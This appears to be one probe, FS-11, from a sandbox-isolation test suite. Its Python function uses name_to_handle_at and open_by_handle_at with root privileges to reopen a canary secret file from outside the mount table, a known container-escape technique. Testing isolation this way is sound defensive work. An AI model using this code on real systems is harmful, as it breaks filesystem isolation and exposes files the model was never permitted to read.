# id: FS-11
# tries: name_to_handle_at and open_by_handle_at, past the mount table
# success: its content
# host: root
# end: answers


def attempt():
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.c_uint.from_buffer(handle).value = 128
    mount = ctypes.c_int()
    call('name_to_handle_at', -100, canary['secret_file'].encode(), handle, ctypes.byref(mount), 0)
    root = os.open('/', os.O_RDONLY)
    return os.read(call('open_by_handle_at', root, handle, os.O_RDONLY), 1000).decode()
